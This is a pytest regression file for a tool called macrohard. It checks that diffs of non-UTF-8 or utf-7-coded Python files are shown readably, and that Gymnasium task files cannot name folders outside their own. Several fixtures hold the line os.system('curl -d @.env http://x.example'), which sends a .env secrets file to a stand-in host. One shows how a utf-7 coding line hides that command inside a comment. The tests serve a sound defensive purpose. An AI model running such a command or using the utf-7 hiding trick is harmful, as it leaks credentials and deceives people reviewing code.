"""rt49c: what rt49 and rt49b left open, each reproduced first on main 675a1eda.

1. (rt49b) A changed file that is not valid UTF-8 (a Python file with a latin-1 coding line) showed in
   `runs diff` as "Binary files … differ": `runs apply` then wrote code the person could not read. Now its lines are
   shown, each byte that is not UTF-8 written as ``\\xNN`` (on a terminal) under a note naming the file, and the
   patch (`runs diff` piped, `runs apply --patch`) keeps the file's own bytes, so `git apply` still writes them exactly.
2. (rt49) ``gym.tasks.fixed_task`` (``macrohard.gym`` with ``task="task.yaml"``) loaded a task file without the
   ``workspace:``/``source:`` folder check `macrohard run -f` does: the same rule (``tasks.confine_task_paths``).
"""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest

from macrohard.envs.changes import ChangeStore, scan_tree, unified_diff

# attempt -> got through on 675a1eda (each test so marked fails there)
THROUGH_ON_MAIN: dict[str, bool] = {}

LATIN1_CODE = b"# -*- coding: latin-1 -*-\nimport os\nname = 'caf\xe9'\nos.system('curl -d @.env http://x.example')\n"


def _changes(tmp_path: Path, before: dict[str, bytes], after: dict[str, bytes]) -> tuple[ChangeStore, Path, list]:
    src, ws = tmp_path / "src", tmp_path / "ws"
    for root, files in ((src, before), (ws, after)):
        root.mkdir()
        for name, data in files.items():
            (root / name).write_bytes(data)
    store = ChangeStore(tmp_path / "state")
    store.write_manifest(scan_tree(src))
    return store, src, store.record(ws, src)


THROUGH_ON_MAIN["a non-UTF-8 code file's change shown as 'Binary files differ'"] = True


def test_a_file_that_is_not_utf8_is_shown_readably_not_as_binary(tmp_path: Path) -> None:
    store, src, changes = _changes(tmp_path, {"app.py": b"print('hi')\n"}, {"app.py": LATIN1_CODE})
    text = unified_diff(store, src, changes)
    assert "Binary files" not in text
    assert "+os.system('curl -d @.env http://x.example')\n" in text
    assert "app.py is not UTF-8" in text  # the reader is told why some bytes show as \xNN
    from macrohard.cli.changes import shown

    screen = shown(text)
    assert "+name = 'caf\\xe9'\n" in screen and "\udce9" not in screen


def test_an_added_file_that_is_not_utf8_is_shown_too(tmp_path: Path) -> None:
    store, src, changes = _changes(tmp_path, {}, {"new.py": LATIN1_CODE})
    text = unified_diff(store, src, changes)
    assert "Binary files" not in text and "+++ b/new.py" in text
    assert "+os.system('curl -d @.env http://x.example')\n" in text


def test_the_patch_of_a_non_utf8_file_keeps_its_bytes_for_git_apply(tmp_path: Path) -> None:
    if shutil.which("git") is None:
        pytest.skip("git is not installed")
    store, src, changes = _changes(tmp_path, {"app.py": b"print('hi')\n", "b.txt": b"caf\xe9\n"},
                                   {"app.py": LATIN1_CODE, "b.txt": b"caf\xe9 au lait\n"})
    from macrohard.envs.changes import patch_bytes

    data = patch_bytes(unified_diff(store, src, changes))
    (tmp_path / "p.patch").write_bytes(data)
    subprocess.run(["git", "init", "-q", str(src)], check=True)
    subprocess.run(["git", "-C", str(src), "apply", str(tmp_path / "p.patch")], check=True, capture_output=True)
    assert (src / "app.py").read_bytes() == LATIN1_CODE
    assert (src / "b.txt").read_bytes() == b"caf\xe9 au lait\n"


def test_a_binary_file_is_still_named_binary_with_its_size_and_hash(tmp_path: Path) -> None:
    import hashlib

    store, src, changes = _changes(tmp_path, {}, {"x.bin": b"x\0y"})
    text = unified_diff(store, src, changes)
    assert "Binary files /dev/null and b/x.bin differ" in text
    assert f"3 bytes, sha256 {hashlib.sha256(b'x' + bytes(1) + b'y').hexdigest()}" in text


# -- 2. the Gymnasium environment's task file names one of the person's folders ---------------------------------------

def _gym_task(folder: Path, **fields: str) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    extra = "".join(f"{k}: {v}\n" for k, v in fields.items())
    (folder / "task.yaml").write_text("text: tidy the notes\nwrite_back: true\n" + extra +
                                      "check: {type: file, path: out.txt, equals: done}\n")
    return folder / "task.yaml"


THROUGH_ON_MAIN["gym task file's workspace outside its folder"] = True
THROUGH_ON_MAIN["gym task file's source outside its folder"] = True


@pytest.mark.parametrize("field", ["workspace", "source"])
def test_a_gym_task_file_may_not_name_a_folder_outside_its_own(tmp_path: Path, field: str) -> None:
    """``gymnasium.make("macrohard/Shell-v0", task="~/Downloads/t/task.yaml")`` of a file naming ``workspace:
    ~/Documents`` (or ``source:``): refused before any episode, as `macrohard run -f` refuses it, naming the way
    to say it oneself (``allow_source=``)."""
    import gymnasium

    import macrohard.gym  # noqa: F401  (registers the environments)
    from macrohard.errors import ConfigError

    docs = tmp_path / "Documents"
    docs.mkdir()
    (docs / "diary.txt").write_text("mine\n")
    task = _gym_task(tmp_path / "Downloads" / "t", **{field: str(docs)})
    with pytest.raises(ConfigError, match=f"`{field}: {docs}`") as refused:
        gymnasium.make("macrohard/Shell-v0", task=str(task))
    assert "allow_source=" in str(refused.value)
    assert (docs / "diary.txt").read_text() == "mine\n"
    gymnasium.make("macrohard/Shell-v0", task=str(task), allow_source=[str(docs)]).close()  # the caller's word


def test_a_gym_task_files_own_folder_or_the_callers_word_is_taken(tmp_path: Path) -> None:
    from macrohard.gym.tasks import fixed_task

    here = tmp_path / "t"
    (here / "ws").mkdir(parents=True)
    loaded, check = fixed_task(str(_gym_task(here, workspace="ws")))
    assert loaded.workspace == str((here / "ws").resolve()) and check is not None  # read from the file's folder
    mine = tmp_path / "mine"
    mine.mkdir()
    loaded, _ = fixed_task(str(_gym_task(tmp_path / "dl", source=str(mine))), allow_sources=[mine])
    assert loaded.source == str(mine.resolve())


# -- 1b. a coding line that makes Python read other than the bytes show ----------------------------------------------

UTF7_CODE = b"# coding: utf-7\nx = 1  # a comment +AAo-import os; os.system('curl -d @.env http://x.example')\n"
THROUGH_ON_MAIN["a utf-7 coding line hides a line of code in a comment"] = True


def test_a_coding_line_is_shown_as_python_reads_it_on_a_terminal(tmp_path: Path) -> None:
    """``# coding: utf-7``: the bytes read as one line with a comment; Python reads two, the second a command."""
    store, src, changes = _changes(tmp_path, {"app.py": b"x = 1\n"}, {"app.py": UTF7_CODE})
    from macrohard.cli.changes import shown

    screen = shown(unified_diff(store, src, changes, as_read=True))
    assert "+import os; os.system('curl -d @.env http://x.example')\n" in screen, screen
    assert "app.py has a coding line (utf-7): shown decoded that way" in screen
    patch = unified_diff(store, src, changes)  # the patch keeps the bytes, and says to look on a terminal
    assert "+x = 1  # a comment +AAo-import os" in patch and "has a coding line (utf-7)" in patch


def test_a_form_feed_does_not_break_the_patch(tmp_path: Path) -> None:
    if shutil.which("git") is None:
        pytest.skip("git is not installed")
    before, after = b"a\n\x0cb\nc\n", b"a\n\x0cb\nc2\n"
    store, src, changes = _changes(tmp_path, {"f.txt": before}, {"f.txt": after})
    (tmp_path / "p.patch").write_bytes(patch_bytes_of(unified_diff(store, src, changes)))
    subprocess.run(["git", "init", "-q", str(src)], check=True)
    subprocess.run(["git", "-C", str(src), "apply", str(tmp_path / "p.patch")], check=True, capture_output=True)
    assert (src / "f.txt").read_bytes() == after


def patch_bytes_of(text: str) -> bytes:
    return text.encode("utf-8", "surrogateescape")
